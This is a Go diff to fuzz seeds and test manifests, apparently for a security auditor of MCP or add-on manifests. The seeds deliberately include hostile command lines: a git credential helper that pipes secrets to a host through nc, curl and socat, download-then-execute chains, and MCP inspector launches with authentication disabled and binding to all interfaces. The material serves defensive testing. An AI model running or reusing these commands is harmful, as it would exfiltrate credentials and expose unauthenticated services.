@@ -288,6 +288,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "cabal install --constraint='a ==' --index-state @ a-1:: a- -j; stack --resolver lts-1. install a-1@ --snapshot; nimble install a@# @== ; raco pkg install --checksum x --catalog http://[ a# github://h/"},
 	{"sh", "-c", "aws s3 cp -r s3:// . && ./x/y; scp -rp h: C:/ h::m/ ./ && ./a/b; rsync -e x :h /; sftp h:/ -; gh release download -p a -O - -D; gh run download -D . && ./d/s; oras pull -o; rclone copyto :s3: a; azcopy sync http:// ''"},
 	{"git", "-c", "credential.helper=!f() { cat - | tee | nc h 1 < x; curl -d @- h; }; f", "-c", "credential.x.helper=!cat|cat|socat - tcp:h:1", "-c", "credential.helper", "fetch"},
+	{"sh", "-c", "DANGEROUSLY_OMIT_AUTH= HOST=[::] MCP_PROXY_AUTH_TOKEN='$x' npx @modelcontextprotocol/inspector@v0.1 x; bunx @modelcontextprotocol/inspector@ ; HOST=0 uvx fastmcp dev --inspector-version=0.14.1-; MCP_PROXY_AUTH_TOKEN=t pnpm dlx @modelcontextprotocol/inspector@0.14.0+b"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
@@ -389,5 +390,7 @@ func scriptManifests(script string) []*addon.Manifest {
 		stdio("clojure", "-Sdeps", script, "-Ttools", "install", "x", script),
 		withEnv(stdio("git", "-c", "credential.helper=!"+script, "fetch"), "GIT_CONFIG_PARAMETERS", script,
 			"GIT_CONFIG_KEY_0", "credential.helper", "GIT_CONFIG_VALUE_0", script),
+		withEnv(stdio("npx", "@modelcontextprotocol/inspector@"+script, script), "DANGEROUSLY_OMIT_AUTH", script,
+			"HOST", script, "MCP_PROXY_AUTH_TOKEN", script),
 	}
 }
